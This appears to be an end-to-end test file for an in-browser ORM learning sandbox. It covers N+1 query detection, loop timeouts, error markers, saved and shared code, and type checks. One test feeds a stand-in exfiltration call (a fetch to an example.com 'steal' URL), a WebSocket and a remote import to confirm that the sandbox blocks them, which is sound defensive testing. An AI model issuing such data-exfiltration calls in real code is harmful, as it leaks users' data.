/**
 * The sandbox in the built static site: the runner worker (sql.js + ORM) answers
 * runs, the inspector reads 1 + N and names the fix, a runaway loop is stopped
 * while the page stays responsive, errors get markers, code survives a reload
 * and travels in share links, and typed declarations squiggle a typo'd field.
 *
 * Waits are on explicit states (data-ready, data-editor-state, data-run-seq),
 * never on fixed sleeps.
 */
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { expectClean, launchBrowser, saveScreenshot, useBuiltSite } from './harness';
import { EDITOR_READY, editorText, RUNNER_READY, run, savedItem, setCode, waitForWorkspace } from './workspace';

const site = useBuiltSite({ viewport: { width: 1440, height: 900 } });
const CODE_KEY = 'orm-lab:sandbox:code';

/** Opens the sandbox and waits until the database and the editor are ready. */
async function openSandbox(url = `${site.server.url}/sandbox`): Promise<Page> {
  const page = await site.browser.newPage();
  await page.goto(url);
  await waitForWorkspace(page, 'sandbox');
  return page;
}

const savedCode = (page: Page) => savedItem(page, CODE_KEY);

test('the N+1 example: 1 + N statements, "101 queries" on the loop line, and a finding naming select_related', async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  await run(page);

  await expect.poll(() => page.textContent('[data-testid="summary-statements"]')).toBe('101');
  expect(await page.getAttribute('[data-testid="summary"]', 'data-statements')).toBe('101');
  const finding = page.locator('[data-testid="finding"][data-kind="n_plus_one"]').first();
  expect(await finding.textContent()).toContain("select_related('author')");
  expect(await finding.textContent()).toContain('Post.author');
  // The lazy loads fold into one "× 100 similar" group.
  expect(await page.getAttribute('[data-testid="similar-block"]', 'data-count')).toBe('100');
  // The loop line carries the count, inline in the editor.
  await expect
    .poll(async () => (await page.locator('.orm-query-hint').allTextContents()).map((t) => t.replace(/\u00a0/g, ' ').trim()))
    .toContain('101 queries');
  // The output pane shows what was printed.
  expect(await page.locator('[data-testid="output"] li').count()).toBe(100);

  const paint = await page.getAttribute('[data-testid="paint-probe"]', 'data-run-to-paint-ms');
  const sql = await page.getAttribute('[data-testid="paint-probe"]', 'data-sql-ms');
  console.log(`N+1 example: run click → results painted ${paint} ms (statements' own time ${sql} ms)`);
  await saveScreenshot(page, 'sandbox-n-plus-one');

  // The fix: one query (two at most).
  await setCode(page, "const posts = Post.objects.select_related('author').order_by('-created_at').slice(0, 100);\nfor (const post of posts) print(post.title, '—', post.author.username);", CODE_KEY);
  await run(page);
  await expect.poll(async () => Number(await page.textContent('[data-testid="summary-statements"]'))).toBeLessThanOrEqual(2);
  expect(await page.locator('[data-testid="finding"][data-kind="n_plus_one"]').count()).toBe(0);

  // EXPLAIN QUERY PLAN of the statement, with its badge.
  await page.click('[data-testid="statement"] button[aria-expanded] >> nth=0');
  await page.click('[data-testid="explain-button"]');
  await page.waitForSelector('[data-testid="explain-plan"]');
  expect(['SCAN', 'SCAN USING INDEX', 'SEARCH USING INDEX']).toContain(await page.textContent('[data-testid="explain-badge"]'));
  await saveScreenshot(page, 'sandbox-fixed-explain');

  expectClean(site.browser.log);
  await page.close();
});

test('an endless loop is stopped at the time limit while the page stays responsive; the next run works', async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  await setCode(page, 'while (true) {}', CODE_KEY);
  const started = Date.now();
  await page.click('[data-testid="run-button"]');
  await page.waitForSelector('[data-testid="stop-button"]');

  // The page's own thread is free: a tab switch happens while the worker spins.
  await page.click('[data-testid="tab-compare"]');
  expect(await page.getAttribute('[data-testid="tab-compare"]', 'aria-selected')).toBe('true');
  await page.click('[data-testid="tab-queries"]');

  await page.waitForSelector('[data-testid="run-timeout"]', { timeout: 15_000 });
  const elapsed = Date.now() - started;
  expect(elapsed).toBeGreaterThanOrEqual(4_500);
  expect(elapsed).toBeLessThan(8_000);
  expect(await page.textContent('[data-testid="run-timeout"]')).toContain('Stopped after 5 s');
  await saveScreenshot(page, 'sandbox-timeout');

  // A fresh worker answers the next run, with the dataset restored.
  await page.waitForSelector(RUNNER_READY, { timeout: 60_000 });
  await setCode(page, "print(Post.objects.count())", CODE_KEY);
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="summary-statements"]')).toBe('1');
  expect(await page.locator('[data-testid="output"] li').first().textContent()).toBe('2000');
  expectClean(site.browser.log);
  await page.close();
});

test('a syntax error is reported with its line and marked in the editor', async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  await setCode(page, "print('ok');\nconst broken = ;\nprint('never');", CODE_KEY);
  await run(page);
  await page.waitForSelector('[data-testid="run-error"][data-error-type="SyntaxError"]');
  expect(await page.textContent('[data-testid="run-error"]')).toContain('line 2');
  await page.waitForSelector('[data-testid="code-editor"] .squiggly-error');
  await saveScreenshot(page, 'sandbox-syntax-error');
  expectClean(site.browser.log);
  await page.close();
});

test('learner code cannot reach the network', async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  await setCode(page, "print('before');\nfetch('http://example.com/steal?data=1');", CODE_KEY);
  await run(page);
  await page.waitForSelector('[data-testid="run-error"]');
  expect(await page.textContent('[data-testid="run-error"]')).toContain('fetch() is disabled in ORM Lab');
  await setCode(page, "const ws = new WebSocket('ws://example.com');", CODE_KEY);
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('WebSocket is disabled in ORM Lab');
  await setCode(page, "import('http://example.com/x.js');", CODE_KEY);
  await run(page);
  await expect.poll(() => page.textContent('[data-testid="run-error"]')).toContain('import() is disabled in ORM Lab');
  expect(site.browser.log.requests.filter((u) => u.includes('example.com'))).toEqual([]);
  expectClean(site.browser.log);
  await page.close();
});

test('the code survives a reload, and a share link reopens the same code', async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  const code = "// kept across reloads\nprint(Author.objects.filter({ is_active: true }).count());";
  await setCode(page, code, CODE_KEY);
  await expect.poll(() => savedCode(page)).toBe(code);

  await page.reload();
  await page.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
  await page.waitForSelector(EDITOR_READY, { timeout: 60_000 });
  await expect.poll(() => editorText(page)).toContain('// kept across reloads');

  await page.click('[data-testid="share-button"]');
  const link = await page.inputValue('[data-testid="share-url"]');
  expect(link).toMatch(/\/sandbox#code=/);
  await page.close();

  // Another visitor (fresh storage) opens the link.
  const other = await launchBrowser({ viewport: { width: 1280, height: 800 } });
  try {
    const shared = await other.newPage();
    await shared.goto(link);
    await shared.waitForSelector('[data-testid="sandbox"][data-restored="true"]');
    await shared.waitForSelector(EDITOR_READY, { timeout: 60_000 });
    await expect.poll(() => editorText(shared)).toContain('// kept across reloads');
    expect(await savedCode(shared)).toBe(code);
    expectClean(other.log);
  } finally {
    await other.close();
  }
  expectClean(site.browser.log);
});

test("a typo'd field is squiggled before running (typed declarations)", async () => {
  site.browser.log.clear();
  const page = await openSandbox();
  const typed = await page.getAttribute('[data-testid="sandbox"]', 'data-typed-declarations');
  if (typed !== 'true') {
    console.log('skipped: the learner API declarations are the untyped fallback');
    await page.close();
    return;
  }
  await setCode(page, "print(Post.objects.filter({ titel: 'x' }).count());", CODE_KEY);
  await page.waitForSelector('[data-testid="code-editor"] .squiggly-error', { timeout: 30_000 });
  await saveScreenshot(page, 'sandbox-typo-squiggle');
  expectClean(site.browser.log);
  await page.close();
});
